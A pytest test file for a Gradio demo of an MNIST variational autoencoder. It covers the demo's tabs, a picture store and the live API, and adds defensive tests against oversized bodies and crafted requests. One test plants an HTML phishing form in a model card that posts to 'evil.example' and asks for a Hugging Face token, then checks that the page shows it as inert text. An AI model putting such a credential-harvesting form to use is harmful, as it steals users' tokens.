"""The demo: what each tab does (`Tabs`), the picture store, then the real server through
gradio_client."""

from __future__ import annotations

import io
import os
import re
import time
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image

from vae_hub import VAE
from vae_hub.capabilities.generation import decode_images
from vae_hub.capabilities.portable_sampling import draw_codes
from vae_hub.capabilities.reconstruction import posterior_cloud, reconstruct
from vae_hub.demo.figures import DIGIT_SCALE, DOWNLOAD_SCALE, SHOW_SCALE
from vae_hub.demo.inputs import example_digit, sketch_to_image
from vae_hub.demo.params import EXPLORE_DIRECTIONS, MAX_GRID, random_seed
from vae_hub.demo.store import PictureStore, StoreLimits
from vae_hub.demo.tabs import CLOUD_SAMPLES, CLOUD_SEED, CLOUD_SHOWN, STRIP_SCALE, Tabs
from vae_hub.pictures.plots import grid_picture

CELL = 30  # a 28 px digit plus torchvision's 2 px grid padding
ZEROS = [0.0] * EXPLORE_DIRECTIONS


def grid_px(n: int, scale: int = SHOW_SCALE) -> int:
    return (n * CELL + 2) * scale


SINGLE = 28 * DIGIT_SCALE  # torchvision leaves a lone image unpadded


def size(path: str) -> tuple[int, int]:
    with Image.open(path) as picture:
        return picture.size


def pixels(path) -> np.ndarray:
    """A picture file's pixels, the file closed again."""
    with Image.open(path) as picture:
        return np.asarray(picture)


@pytest.fixture(scope="module")
def tabs(trained_model_dir, tmp_path_factory):
    return Tabs(VAE.from_pretrained(trained_model_dir), PictureStore(tmp_path_factory.mktemp("s")))


def test_sample_is_a_modest_png_and_its_download_is_larger(tabs):
    path, text = tabs.sample(3, 42, 0.8)
    assert path.endswith(".png") and size(path) == (grid_px(3), grid_px(3))
    assert "42" in text
    assert tabs.sample(3, 42, 0.8)[0] == path  # same seed, same picture, same file
    assert tabs.sample(3, 43, 0.8)[0] != path
    assert size(tabs.sample_download(3, 42, 0.8)) == (grid_px(3, DOWNLOAD_SCALE),) * 2


def test_nearest_neighbour_upscaling_keeps_pixels_crisp(tabs):
    path, _ = tabs.sample(1, 0, 1.0)
    picture = pixels(path)
    block = picture[SHOW_SCALE * 2 : SHOW_SCALE * 3, SHOW_SCALE * 2 : SHOW_SCALE * 3]
    assert (block == block[0, 0]).all()  # one source pixel -> one flat block


def test_parameters_are_clamped_or_rejected(tabs):
    path, text = tabs.sample(500, -5, 99)
    assert size(path) == (grid_px(MAX_GRID), grid_px(MAX_GRID))
    assert "**0**" in text and "temperature 2" in text
    for bad in ("many", None, float("nan")):
        with pytest.raises(ValueError, match="grid size must be"):
            tabs.sample(bad, 0, 1.0)


def test_digit_tab(tabs):
    assert size(tabs.digit("7", 2, 0, 1.0)) == (grid_px(2), grid_px(2))
    assert size(tabs.digit_download("7", 2, 0, 1.0)) == (grid_px(2, DOWNLOAD_SCALE),) * 2


def test_sample_and_digit_draw_the_pages_portable_codes(tabs):
    """The server's Sample and Digit grids, on screen and downloaded, are the codes the
    page's JavaScript draws for the same seed (portable_sampling), decoded."""
    prior = tabs.model.prior

    def expected(mixture, n, seed, temperature, scale=SHOW_SCALE):
        images = decode_images(tabs.model, draw_codes(mixture, n * n, seed, temperature))
        return np.asarray(grid_picture(images, n, scale))

    shown, _ = tabs.sample(3, 42, 0.8)
    assert np.array_equal(pixels(shown), expected(prior.mixture(), 3, 42, 0.8))
    downloaded = tabs.sample_download(3, 42, 0.8)
    assert np.array_equal(pixels(downloaded), expected(prior.mixture(), 3, 42, 0.8, DOWNLOAD_SCALE))
    assert np.array_equal(pixels(tabs.digit("7", 2, 5, 0.5)), expected(prior.mixture(7), 2, 5, 0.5))
    digit_download = tabs.digit_download("7", 2, 5, 0.5)
    assert np.array_equal(
        pixels(digit_download), expected(prior.mixture(7), 2, 5, 0.5, DOWNLOAD_SCALE)
    )


def test_interpolate_tab_with_examples_and_with_a_drawing(tabs):
    strip, gif = tabs.interpolate("2", 0, None, "7", 3, None, 6, "slerp")
    assert size(strip) == (grid_px(6, 4), grid_px(1, 4))
    with Image.open(gif) as animation:
        assert animation.format == "GIF" and animation.n_frames == 2 * 6 - 2
    drawing = np.full((280, 280), 255, dtype=np.uint8)
    drawing[60:220, 130:150] = 0  # a "1" drawn in black on the white Sketchpad
    sketch = {"background": None, "layers": [], "composite": Image.fromarray(drawing)}
    strip2, _ = tabs.interpolate("2", 0, sketch, "7", 3, None, 6, "linear")
    assert size(strip2) == size(strip) and strip2 != strip
    with pytest.raises(ValueError, match="method"):
        tabs.interpolate("2", 0, None, "7", 0, None, 6, "cubic")


def test_reconstruct_tab_accepts_all_kinds_of_pictures(tabs):
    rgba = np.zeros((120, 90, 4), dtype=np.uint8)
    rgba[20:100, 40:50] = (10, 10, 10, 255)
    seen, rebuilt, landed, draws, words = tabs.reconstruct(Image.fromarray(rgba, "RGBA"))
    assert size(seen) == size(rebuilt) == (SINGLE, SINGLE)
    assert size(landed) == size(tabs.map_file)
    assert size(draws) == (grid_px(CLOUD_SHOWN, STRIP_SCALE), (CELL + 2) * STRIP_SCALE)
    assert "nats" in words
    with pytest.raises(ValueError, match="blank"):
        tabs.reconstruct(Image.new("L", (64, 64), 0))
    with pytest.raises(ValueError, match="no picture"):
        tabs.reconstruct(None)
    with pytest.raises(ValueError, match="drawing is empty"):
        tabs.reconstruct_drawing(None)


def test_reconstruct_shows_the_posterior_a_cloud_its_decodings_and_the_elbo_in_words(tabs):
    """What the model is unsure of: draws from q(z|x) ring the star on the map, some are
    decoded in a strip, and the ELBO's two terms are said in nats; all of it the same for
    the same drawing (a fixed seed)."""
    picture = example_digit(3, 1)
    seen, rebuilt, landed, draws, words = tabs.reconstruct(picture, "this test digit")
    assert tabs.reconstruct(picture, "this test digit") == (seen, rebuilt, landed, draws, words)
    assert re.fullmatch(
        r"About \*\*\d+ nats to redraw it\*\* \(reconstruction\) and \*\*\d+ nats to place it "
        r"in the latent space\*\* \(KL\).*",
        words,
        flags=re.S,
    )
    cloud = posterior_cloud(tabs.model, picture, CLOUD_SAMPLES, CLOUD_SEED)
    assert cloud.codes.shape == (CLOUD_SAMPLES, tabs.model.latent_dim)
    assert cloud.codes.std(0).min() > 0  # a cloud, not one point
    assert f"{cloud.reconstruction_nats:.0f} nats to redraw" in words
    assert f"{cloud.kl_nats:.0f} nats to place" in words
    strip = pixels(draws)
    side, pad = 28 * STRIP_SCALE, 2 * STRIP_SCALE
    cells = [strip[pad : pad + side, pad + i * CELL * STRIP_SCALE :][:, :side]
             for i in range(CLOUD_SHOWN)]  # fmt: skip
    assert any(not np.array_equal(cells[0], c) for c in cells[1:])  # the draws differ
    ringed = pixels(landed).astype(int) - pixels(tabs.store.png(
        tabs.map.with_star(reconstruct(tabs.model, picture).latent_mean, "this test digit")
    )).astype(int)  # fmt: skip
    assert np.abs(ringed).sum() > 0  # the rings are on the map
    other = posterior_cloud(tabs.model, example_digit(7, 0), CLOUD_SAMPLES, CLOUD_SEED)
    assert other.reconstruction_nats != cloud.reconstruction_nats


def test_the_elbo_words_follow_the_models_likelihood(tabs):
    """A binarized model is scored on a binarization of the picture, as in training: a
    grey-level picture's reconstruction term differs from the grey-level score."""
    picture = example_digit(3, 1)
    grey = posterior_cloud(tabs.model, picture, 8, 0)
    tabs.model.binarized = True
    try:
        binary = posterior_cloud(tabs.model, picture, 8, 0)
        again = posterior_cloud(tabs.model, picture, 8, 0)
    finally:
        tabs.model.binarized = False
    assert binary.reconstruction_nats == again.reconstruction_nats  # one fixed binarization
    assert binary.reconstruction_nats != grey.reconstruction_nats
    assert binary.kl_nats == pytest.approx(grey.kl_nats, rel=0.5)


def test_a_huge_upload_is_refused_from_its_size_alone(tabs):
    with pytest.raises(ValueError, match="at most"):
        tabs.reconstruct(Image.new("L", (5000, 5000)))


def test_sketch_to_image():
    assert sketch_to_image(None) is None
    assert sketch_to_image({"composite": Image.new("L", (10, 10), 255)}) is None
    drawn = np.full((10, 10), 255, np.uint8)
    drawn[3, 3] = 0
    assert sketch_to_image({"composite": drawn}) is drawn
    assert sketch_to_image({"composite": Image.fromarray(drawn)}) is not None


def test_latent_map_is_drawn_once_and_the_manifold_only_for_2d_latents(tabs, tmp_path):
    assert tabs.latent_map() == (tabs.map_file, None)
    assert "keep" in Path(tabs.map_file).parts  # never swept: every page shows it
    flat = Tabs(VAE(latent_dim=2, channels=4, hidden_dim=8, latent_map_points=0).eval(),
                PictureStore(tmp_path))  # fmt: skip
    map_file, manifold = flat.latent_map()
    assert size(manifold) == (grid_px(15),) * 2  # no stored map: PCA of the example digits


def test_explore_from_a_digit_a_click_and_the_sliders(tabs):
    centre = tabs.explore("3", None, None, *ZEROS)
    star = tabs.explore_map("3", None, None, *ZEROS)
    assert size(centre) == (SINGLE, SINGLE) and size(star) == size(tabs.map_file)
    assert tabs.explore("3", None, None, *ZEROS) == centre  # a pure function
    moved = tabs.explore("3", None, None, 2.0, *ZEROS[1:])
    assert moved != centre and tabs.explore_map("3", None, None, 2.0, *ZEROS[1:]) != star
    # a click on a stored point decodes (nearly) that point's latent
    points = tabs.map.points
    x, y = points.xy[5].tolist()
    assert torch.allclose(points.latent_at(torch.tensor([x, y])), points.mu[5], atol=1e-3)
    clicked = tabs.explore("3", x, y, *ZEROS)
    direct = grid_picture(decode_images(tabs.model, points.mu[5][None]), 1, DIGIT_SCALE)
    difference = pixels(clicked).astype(int) - np.asarray(direct)
    assert np.abs(difference).max() <= 1 and clicked != centre
    with pytest.raises(ValueError, match="direction offsets"):
        tabs.explore("3", None, None, 1.0)


def test_a_click_position_maps_back_to_the_data_under_it(tabs):
    frame = tabs.map.frame
    for x, y in tabs.map.points.xy[:20].tolist():
        px, py = frame.to_pixel(x, y)
        assert frame.contains(px, py)
        assert tabs.map_position(px, py) == pytest.approx((x, y), abs=1e-4)


def test_random_seed_does_not_touch_torch_rng():
    torch.manual_seed(5)
    expected = torch.rand(2)
    torch.manual_seed(5)
    seeds = {random_seed() for _ in range(5)}
    assert torch.equal(torch.rand(2), expected) and len(seeds) > 1


def test_example_digits_are_real_test_digits():
    assert example_digit(3, 0).shape == (1, 28, 28)
    assert example_digit(99, -4).shape == (1, 28, 28)  # clamped


# --- the picture store ------------------------------------------------------------------------


def test_the_store_writes_a_picture_once_and_never_rewrites_it(tmp_path):
    store = PictureStore(tmp_path)
    picture = Image.new("L", (30, 30), 128)
    path = store.png(picture)
    before = os.stat(path)
    again = store.png(picture.copy())
    after = os.stat(path)
    assert again == path and before.st_ino == after.st_ino and before.st_size == after.st_size
    assert not [p for p in tmp_path.rglob(".*") if p.is_file()]  # no temporaries left
    assert store.png(Image.new("L", (30, 30), 127)) != path


def _grey(level: int, side: int = 40) -> Image.Image:
    """A picture of its own (distinct content, distinct file), about 100 bytes as PNG."""
    return Image.new("L", (side, side), level)


def test_the_store_deletes_the_least_recently_used_beyond_its_file_cap(tmp_path):
    store = PictureStore(tmp_path, StoreLimits(max_files=3, floor_s=0))
    with store.keeping():
        kept = store.png(_grey(0))
    paths = [store.png(_grey(level)) for level in (1, 2, 3)]
    store.png(_grey(1))  # used again: now the most recent
    newest = store.png(_grey(4))
    assert not Path(paths[1]).exists()  # the least recently used went first
    assert all(Path(p).exists() for p in (paths[0], paths[2], newest, kept))
    assert store.files == 3 == len([p for p in tmp_path.iterdir() if p.is_file()])


def test_the_store_keeps_its_bytes_under_the_cap_and_never_deletes_kept_pictures(tmp_path):
    noise = np.random.default_rng(0).integers(0, 256, (8, 64, 64), dtype=np.uint8)
    size = len(Path(PictureStore(tmp_path / "probe").png(Image.fromarray(noise[0]))).read_bytes())
    store = PictureStore(tmp_path / "s", StoreLimits(max_bytes=3 * size + size // 2, floor_s=0))
    with store.keeping():
        kept = [store.png(Image.fromarray(n)) for n in noise[:4]]  # over the cap alone
    for n in noise[4:]:
        store.png(Image.fromarray(n), name="download.png")  # a named file, in its own folder
    on_disk = [p for p in (tmp_path / "s").rglob("*.png") if "keep" not in p.parts]
    assert store.files == len(on_disk) == 3 and store.bytes <= 3 * size + size // 2
    assert all(Path(k).exists() for k in kept)
    folders = [p for p in (tmp_path / "s").iterdir() if p.is_dir() and p.name != "keep"]
    assert len(folders) == 3  # a deleted download's folder went with it


def test_the_store_never_deletes_a_recent_picture_but_always_an_expired_one(tmp_path):
    store = PictureStore(tmp_path, StoreLimits(max_files=1, floor_s=60, lifetime_s=600))
    first = store.png(_grey(1))
    second = store.png(_grey(2))
    assert Path(first).exists() and Path(second).exists()  # over the cap, but both recent
    an_hour_ago = time.time() - 3600
    os.utime(first, (an_hour_ago, an_hour_ago))
    reopened = PictureStore(tmp_path, StoreLimits(max_files=100, floor_s=60, lifetime_s=600))
    assert reopened.files == 2  # a store opened on a folder in use knows its pictures
    reopened.png(_grey(3))
    assert not Path(first).exists() and Path(second).exists()  # expired, under the cap


def test_a_download_is_named_for_what_it_shows(tabs):
    path = Path(tabs.sample_download(3, 42, 0.8))
    assert path.name == "sample-3x3-seed42-T0.8.png"
    assert tabs.sample_download(3, 42, 0.8) == str(path)  # written once
    digit = Path(tabs.digit_download("7", 99, -1, 0.5))
    assert digit.name == "digit7-16x16-seed0-T0.5.png"  # the values used, once clamped


def test_the_store_folder_says_nothing_about_the_server(tmp_path, monkeypatch):
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path))
    folder = PictureStore().folder
    assert folder.parent == tmp_path and str(os.getpid()) not in folder.name
    assert len(folder.name) >= 32 and folder != PictureStore().folder


# --- the live server --------------------------------------------------------------------------


def _read(path) -> np.ndarray:
    with open(path, "rb") as f:
        data = f.read()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"  # PNG, never lossy WebP
    return pixels(io.BytesIO(data))


def test_every_endpoint_has_a_stable_name(client):
    names = set(client.view_api(print_info=False, return_format="dict")["named_endpoints"])
    assert {
        "/sample",
        "/random_sample",
        "/interpolate",
        "/digit",
        "/reconstruct",
        "/reconstruct_drawing",
        "/latent_map",
        "/explore",
        "/noop",
    } <= names


def test_the_public_page_has_no_load_test_endpoint(trained_model_dir, tmp_path):
    from vae_hub.demo.page import build_demo

    model = VAE.from_pretrained(trained_model_dir)
    page = build_demo(model, str(trained_model_dir), PictureStore(tmp_path), loadtest=False)
    names = {fn.api_name for fn in page.fns.values()}
    assert "noop" not in names and {"sample", "explore"} <= names


def test_sample_endpoint_same_seed_same_bytes(client):
    first, text = client.predict(4, 7, 1.0, api_name="/sample")
    second, _ = client.predict(4, 7, 1.0, api_name="/sample")
    a, b = _read(first), _read(second)
    assert a.shape == (grid_px(4), grid_px(4)) and a.dtype == np.uint8
    assert np.array_equal(a, b) and "7" in text
    seed, picture, _ = client.predict(2, 1.0, api_name="/random_sample")
    assert seed >= 0 and _read(picture).shape == (grid_px(2), grid_px(2))


def test_digit_interpolate_latent_map_endpoints(client):
    assert _read(client.predict("3", 2, 0, 1.0, api_name="/digit")).shape == (grid_px(2),) * 2
    strip, gif = client.predict("1", 0, None, "8", 2, None, 5, "linear", api_name="/interpolate")
    assert _read(strip).shape == (grid_px(1, 4), grid_px(5, 4))
    assert Path(gif).read_bytes()[:6] in (b"GIF89a", b"GIF87a")
    picture, _ = client.predict(api_name="/latent_map")
    assert _read(picture).shape[1] > 300
    digit = client.predict("5", None, None, 1.5, 0, 0, 0, api_name="/explore")
    assert _read(digit).shape == (SINGLE, SINGLE)
    clicked = client.predict("5", 1.0, -2.0, 0, 0, 0, 0, api_name="/explore")
    assert not np.array_equal(_read(clicked), _read(digit))


def test_reconstruct_endpoint_with_an_upload(client, tmp_path, test_split):
    from gradio_client import handle_file

    digit = 255 - test_split.images[0].numpy()
    path = tmp_path / "digit.png"
    Image.fromarray(digit).resize((112, 112)).save(path)
    result = client.predict(handle_file(str(path)), api_name="/reconstruct")
    seen, rebuilt, landed, draws, words = result  # the draws and words came last (issue 34)
    seen = _read(seen)
    assert seen.shape == (SINGLE, SINGLE) and seen.max() == 255
    assert _read(rebuilt).shape == seen.shape and _read(landed).shape[1] > 300
    assert _read(draws).shape[1] > _read(draws).shape[0] and "nats" in words
    assert client.predict(handle_file(str(path)), api_name="/reconstruct")[4] == words


def test_noop(client):
    assert client.predict(api_name="/noop") == "ok"


# --- bad input through the API ----------------------------------------------------------------


def _garbage_files(tmp_path, test_split) -> dict[str, tuple[Path, str]]:
    """name -> (file, part of the message the visitor must see)."""
    files = {}

    def put(name, data, expect):
        path = tmp_path / name
        path.write_bytes(data) if isinstance(data, bytes) else data.save(path)
        files[name] = (path, expect)

    put("empty.png", b"", "not an image")
    put("text.png", b"this is not a picture at all" * 10, "not an image")
    put("truncated.png", _png(Image.fromarray(test_split.images[0].numpy()))[:60], "not an image")
    put("one_pixel.png", Image.new("L", (1, 1), 255), "1x1")
    put("all_black.png", Image.new("L", (64, 64), 0), "blank")
    put("huge.png", Image.new("L", (5000, 5000), 0), "at most")
    return files


def _png(image: Image.Image) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def test_garbage_uploads_get_a_readable_error_and_the_server_survives(client, tmp_path, test_split):
    from gradio_client import handle_file
    from gradio_client.exceptions import AppError

    for path, expect in _garbage_files(tmp_path, test_split).values():
        with pytest.raises(AppError, match=expect):
            client.predict(handle_file(str(path)), api_name="/reconstruct")
    assert client.predict(api_name="/noop") == "ok"  # still serving


def test_unusual_but_valid_uploads_work(client, tmp_path, test_split):
    from gradio_client import handle_file

    digit = test_split.images[1].numpy()
    rgba = np.zeros((*digit.shape, 4), dtype=np.uint8)
    rgba[..., 3] = digit  # white strokes as alpha on a transparent canvas
    sixteen = Image.fromarray(digit.astype(np.uint16) * 257)
    for name, image in (("rgba.png", Image.fromarray(rgba, "RGBA")), ("16bit.png", sixteen)):
        image.save(tmp_path / name)
        seen, *_ = client.predict(handle_file(str(tmp_path / name)), api_name="/reconstruct")
        assert _read(seen).max() == 255


def test_out_of_range_parameters_are_clamped_or_rejected(client):
    from gradio_client.exceptions import AppError

    with pytest.raises(AppError, match="greater than maximum value 16"):
        client.predict(99, 0, 1.0, api_name="/sample")  # Gradio checks the slider's bounds
    with pytest.raises(AppError, match="less than minimum value 0"):
        client.predict(2, -3, 1.0, api_name="/sample")
    with pytest.raises(AppError, match="not in the list of choices"):
        client.predict("eleven", 2, 0, 1.0, api_name="/digit")
    with pytest.raises(AppError, match="'zigzag'.*not in the list of choices"):
        client.predict("1", 0, None, "8", 2, None, 5, "zigzag", api_name="/interpolate")
    with pytest.raises(AppError, match="drawing is empty"):
        client.predict(None, api_name="/reconstruct_drawing")


def test_a_request_leaves_the_global_rng_alone(client):
    torch.manual_seed(11)
    expected = torch.rand(3)
    torch.manual_seed(11)
    client.predict(2, 5, 1.0, api_name="/sample")  # served in this process
    assert torch.equal(torch.rand(3), expected)


def test_a_burst_of_concurrent_requests_is_served_without_errors(server):
    """The load benchmark's machinery on a small burst of distinct requests: all answered,
    none dropped (its latency numbers are printed by `vae-hub loadtest`, never asserted)."""
    from vae_hub.cli.loadtest import hammer

    result = hammer(server, "/sample", clients=6, requests=3, identical=False)
    assert result["requests"] == 18 and result["errors"] == 0
    assert hammer(server, "/noop", clients=6, requests=3)["errors"] == 0


@pytest.mark.parametrize("endpoint", ["/sample", "/digit", "/interpolate", "/latent_map",
                                      "/explore"])  # fmt: skip
def test_identical_requests_in_a_burst_never_break_a_picture(server, endpoint):
    """Identical requests give identical pictures. Gradio's own cache rewrites such a shared
    file while other responses stream it (truncated downloads: "peer closed connection
    without sending complete message body"); the picture store writes each file once."""
    from vae_hub.cli.loadtest import hammer

    result = hammer(server, endpoint, clients=16, requests=4, identical=True)
    assert result["errors"] == 0, result["first_error"]


# --- a hostile visitor -------------------------------------------------------------------------


def _chunks(size: int):
    """A JSON body of `size` bytes, sent chunked (no Content-Length)."""
    yield b'{"data": [8, "'
    for _ in range(size // 2**16):
        yield b"7" * 2**16
    yield b'", 1.0]}'


def test_a_too_large_body_is_refused_before_it_is_read(server, client):
    import httpx

    from vae_hub.demo.bodies import MAX_BODY

    junk = "7" * (2 * MAX_BODY)  # where a number belongs
    with httpx.Client(timeout=60) as http:
        declared = http.post(f"{server}gradio_api/call/sample", json={"data": [8, junk, 1.0]})
        assert declared.status_code == 413
        assert f"at most {MAX_BODY} bytes" in declared.json()["detail"]
        chunked = http.post(
            f"{server}gradio_api/call/sample",
            content=_chunks(2 * MAX_BODY),
            headers={"content-type": "application/json"},
        )
        assert chunked.status_code == 413
        joined = http.post(f"{server}gradio_api/queue/join", json={"data": [junk], "fn_index": 0})
        assert joined.status_code == 413
    assert client.predict(api_name="/noop") == "ok"  # still serving


def _crafted(server: str, fn_index: int, trigger: int, event_data) -> dict:
    """Join the queue as the page would for event `fn_index`, with `event_data` of our
    choosing; the message that ends it."""
    import json

    import httpx

    session = f"crafted-{fn_index}-{abs(hash(str(event_data)))}"
    with httpx.Client(timeout=60) as http:
        body = {"data": [], "event_data": event_data, "fn_index": fn_index,
                "trigger_id": trigger, "session_hash": session}  # fmt: skip
        http.post(f"{server}gradio_api/queue/join", json=body).raise_for_status()
        params = {"session_hash": session}
        with http.stream("GET", f"{server}gradio_api/queue/data", params=params) as stream:
            for line in stream.iter_lines():
                message = json.loads(line[5:]) if line.startswith("data:") else {}
                if message.get("msg") == "process_completed":
                    return message
    raise AssertionError("no result")


def test_a_crafted_click_on_the_map_is_a_clean_error_without_a_traceback(server, capfd):
    import httpx

    config = httpx.get(f"{server}config", timeout=60).json()
    [click] = [d for d in config["dependencies"] if d.get("api_name") == "from_click"]
    fn_index, trigger = click["id"], click["targets"][0][0]
    capfd.readouterr()
    for event_data in ({"index": [1, 2, 3, 4], "value": None}, {"value": 1}, "zz", None):
        message = _crafted(server, fn_index, trigger, event_data)
        assert message["success"] is False
        assert message["output"]["error"] in (
            "click position must be two numbers (x, y)",
            "this request has the wrong number of values",
        ), event_data
    clicked = _crafted(server, fn_index, trigger, {"index": [10, 20], "value": None})
    assert clicked["success"] is True
    assert "Traceback" not in capfd.readouterr().err


def test_every_event_goes_through_the_guard(trained_model_dir, tmp_path):
    from vae_hub.demo.page import build_demo

    model = VAE.from_pretrained(trained_model_dir)
    page = build_demo(model, "m", PictureStore(tmp_path), loadtest=True)
    unguarded = [
        fn.name
        for fn in page.fns.values()
        if fn.fn is not None and not getattr(fn.fn, "guarded", False)
    ]  # an event without a function (the Clear buttons, the brush script) runs in the browser
    assert unguarded == []
    assert all(fn.js for fn in page.fns.values() if fn.fn is None)


def test_large_downloads_are_drawn_only_when_asked_for(trained_model_dir, tmp_path):
    """No event the controls trigger draws a download: only a click on its button."""
    import gradio as gr

    from vae_hub.demo.page import build_demo

    page = build_demo(VAE.from_pretrained(trained_model_dir), "m", PictureStore(tmp_path))
    makers = [fn for fn in page.fns.values()
              if any(isinstance(o, gr.DownloadButton) for o in fn.outputs)]  # fmt: skip
    assert len(makers) == 2
    for fn in makers:
        [(target, event)] = fn.targets
        assert event == "click" and isinstance(page.blocks[target], gr.Button), fn.name
        assert fn.trigger_after is None  # not chained after an update


def test_a_response_names_no_server_folder(client):
    """A picture's path (sent, and part of its URL) is a random folder in Gradio's
    temporary folder, as Gradio's own cached files are: no process id, no app name."""
    import re
    import tempfile

    from gradio_client import Client

    raw = Client(client.src, verbose=False, download_files=False)
    picture, _ = raw.predict(2, 3, 1.0, api_name="/sample")
    gradio_temp = os.environ.get("GRADIO_TEMP_DIR") or str(Path(tempfile.gettempdir(), "gradio"))
    for text in (picture["path"], picture["url"]):
        assert str(os.getpid()) not in text and "vae-hub" not in text
    path = Path(picture["path"])  # <store>/<content hash>/<a name for what it shows>
    store, content = path.parent.parent, path.parent
    assert str(store.parent) == gradio_temp and re.fullmatch("[0-9a-f]{40}", store.name)
    assert re.fullmatch("[0-9a-f]{32}", content.name)  # the picture's content hash
    assert path.name == "sample-2x2-seed3-T1.png"


def test_a_sketchpad_piece_naming_a_huge_layer_is_refused(server, client):
    import httpx

    files = {"files": ("layer.png", _png(Image.new("L", (8, 8), 255)), "image/png")}
    with httpx.Client(timeout=60) as http:
        config = http.get(f"{server}config").json()
        sketchpad = next(c["id"] for c in config["components"] if c["type"] == "imageeditor")
        for index, status in (("50000000", 400), ("0", 200)):
            data = {"id": "d1", "type": "layer", "index": index, "component_id": str(sketchpad),
                    "fn_name": "accept_blobs", "session_hash": "s"}  # fmt: skip
            reply = http.post(f"{server}gradio_api/component_server/", data=data, files=files)
            assert reply.status_code == status, reply.text
    assert client.predict(api_name="/noop") == "ok"


def test_held_drawings_are_bounded(monkeypatch):
    from gradio.components.image_editor import EditorDataBlobs

    from vae_hub.demo import inputs

    monkeypatch.setattr(inputs, "DRAWING_BYTES", 1000)
    held = inputs.HeldDrawings()
    for i in range(inputs.DRAWINGS_HELD + 5):
        held[f"d{i}"] = EditorDataBlobs(background=b"x" * 10, layers=[], composite=None)
    assert len(held) == inputs.DRAWINGS_HELD and "d0" not in held and f"d{i}" in held
    held["big"] = EditorDataBlobs(background=b"x" * 600, layers=[b"y" * 300], composite=None)
    assert list(held)[-1] == "big" and sum(map(inputs._piece_bytes, held.values())) <= 1000


def test_app_py_on_a_port_in_use_is_one_line_and_exit_2():
    import socket
    import subprocess
    import sys

    from .conftest import ROOT

    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        proc = subprocess.run(
            [sys.executable, str(ROOT / "app.py"), "--port", str(port)],
            capture_output=True, text=True, timeout=300,
        )  # fmt: skip
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert proc.stderr == f"error: port {port} is in use on 127.0.0.1: choose another with --port\n"


def test_app_py_with_a_broken_model_is_one_line_and_exit_2(tmp_path):
    import subprocess
    import sys

    from .conftest import ROOT

    (tmp_path / "config.json").write_text('{"arch": "transformer"}')
    (tmp_path / "model.safetensors").write_bytes(b"")
    proc = subprocess.run(
        [sys.executable, str(ROOT / "app.py"), "--model", str(tmp_path)],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 2
    assert (
        proc.stderr.startswith("error: cannot load the model:") and "Traceback" not in proc.stderr
    )


def test_the_page_names_a_local_model_by_its_folder_only(tmp_path):
    from vae_hub.files.bundled import bundled_model_path, display_name

    assert display_name("user/mnist-vae") == "user/mnist-vae"
    assert display_name(str(tmp_path)) == tmp_path.name
    assert display_name(str(bundled_model_path())) == "vae_hub/pretrained (bundled)"


def test_the_model_card_is_shown_as_text_never_as_live_html(trained_model_dir, tmp_path):
    """H3: a model folder's README.md reaches the served page as inert text: its <form> and
    <input> are no elements, undecodable bytes do not stop the server, and only its first
    MAX_CARD_BYTES are sent to every visitor."""
    import json
    import shutil
    import urllib.request

    from vae_hub.cli.loadtest import free_port
    from vae_hub.demo.intro import MAX_CARD_BYTES
    from vae_hub.demo.page import build_demo, launch_kwargs

    folder = tmp_path / "model"
    shutil.copytree(trained_model_dir, folder)
    form = '<form action="https://evil.example/"><input placeholder="re-enter your HF token">'
    card = f"---\nlicense: mit\n---\n# A card\n\n{form}\n\nCaf\xe9 in Latin-1\n\n".encode("latin-1")
    (folder / "README.md").write_bytes(card + b"filler line\n" * 200_000)  # 2.4 MB
    demo = build_demo(VAE.from_pretrained(folder), str(folder), PictureStore(tmp_path / "s"))
    demo.launch(server_name="127.0.0.1", server_port=free_port(), prevent_thread_lock=True,
                quiet=True, **launch_kwargs(demo))  # fmt: skip
    try:
        with urllib.request.urlopen(f"{demo.local_url.rstrip('/')}/config", timeout=30) as r:
            config = r.read()
    finally:
        demo.close()
    values = [str(c.get("props", {}).get("value")) for c in json.loads(config)["components"]]
    shown = next(v for v in values if "A card" in v)
    assert "<form" not in shown and "<input" not in shown and b"<form" not in config
    assert "&lt;form action=" in shown and "re-enter your HF token" in shown
    assert "Caf\ufffd in Latin-1" in shown
    assert "card truncated" in shown and len(config) < 2 * MAX_CARD_BYTES


def test_the_cards_pictures_are_not_left_as_captions_without_pictures():
    """The page does not serve the files beside a card, so their section is replaced by a
    note: a visitor never reads 'One row per digit' above a picture that is not there."""
    from vae_hub import BUNDLED
    from vae_hub.demo.intro import card_html

    card = (Path(BUNDLED) / "README.md").read_text(encoding="utf-8")
    assert "![" in card and "One row per digit" in card  # the card itself has them
    shown = card_html(BUNDLED)
    assert "<img" not in shown and "One row per digit" not in shown
    assert "<h2>Pictures</h2>" in shown and "<h2>Limitations</h2>" in shown


def test_ctrl_c_stops_app_py_with_one_line_and_exit_130():
    """The server answers, then a real SIGINT stops it: one line, the shell's code for it."""
    import signal
    import subprocess
    import sys
    import time
    import urllib.request

    from vae_hub.cli.loadtest import free_port

    from .conftest import ROOT

    port = free_port()
    proc = subprocess.Popen(
        [sys.executable, str(ROOT / "app.py"), "--port", str(port)],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 240
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5) as page:
                    assert page.status == 200
                break
            except OSError:
                assert time.monotonic() < deadline and proc.poll() is None, "no page"
                time.sleep(0.5)
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == 130, err
    assert err.strip().splitlines()[-1] == "interrupted (Ctrl-C)" and "Traceback" not in err
